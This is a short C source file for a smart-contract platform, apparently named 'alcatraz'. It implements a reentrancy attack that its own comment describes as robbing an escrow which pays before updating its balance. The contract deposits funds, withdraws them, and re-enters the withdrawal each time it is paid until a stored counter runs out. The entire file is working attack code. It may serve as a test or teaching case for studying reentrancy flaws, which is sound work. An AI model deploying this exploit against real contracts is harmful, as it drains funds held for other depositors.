/* Robs an escrow that pays before it writes down what is left: whenever it is paid, it withdraws again.
 *
 * call    escrow address, amount u64, times u64: deposits the amount and withdraws it, again `times`
 *         times while it is being paid
 *         nothing: it is being paid
 * Storage: 't' -> times left, 'e' -> escrow, 'a' -> amount. */
#include "alcatraz.h"

enum { WORD = 8, ADDRESS = 32 };

static uint64_t send(const void *to, uint64_t value, const void *input, uint64_t len) {
  uint64_t block[6] = {(uint64_t)to, value, 0, (uint64_t)input, len, 1};
  return az_call(block);
}

static uint64_t withdraw(const void *escrow, uint64_t amount) {
  uint8_t input[1 + WORD] = {1};
  *(uint64_t *)(input + 1) = amount;
  return send(escrow, 0, input, sizeof input);
}

AZ_EXPORT uint64_t call(const uint8_t *input, uint64_t len) {
  uint8_t escrow[ADDRESS];
  uint64_t amount = 0, times = 0;
  if (len == ADDRESS + 2 * WORD) {
    uint8_t deposit = 0;
    amount = *(const uint64_t *)(input + ADDRESS);
    az_set("e", 1, input, ADDRESS);
    az_set("a", 1, input + ADDRESS, WORD);
    az_set("t", 1, input + ADDRESS + WORD, WORD);
    if (send(input, amount, &deposit, 1) != 0) return 1;
    return withdraw(input, amount);
  }
  if (az_get("t", 1, &times, WORD) != WORD || times == 0) return 0;
  times--;
  az_set("t", 1, &times, WORD);
  az_get("a", 1, &amount, WORD);
  az_get("e", 1, escrow, ADDRESS);
  withdraw(escrow, amount);
  return 0;
}

AZ_EXPORT uint64_t deploy(const uint8_t *input, uint64_t len) { return 0; }
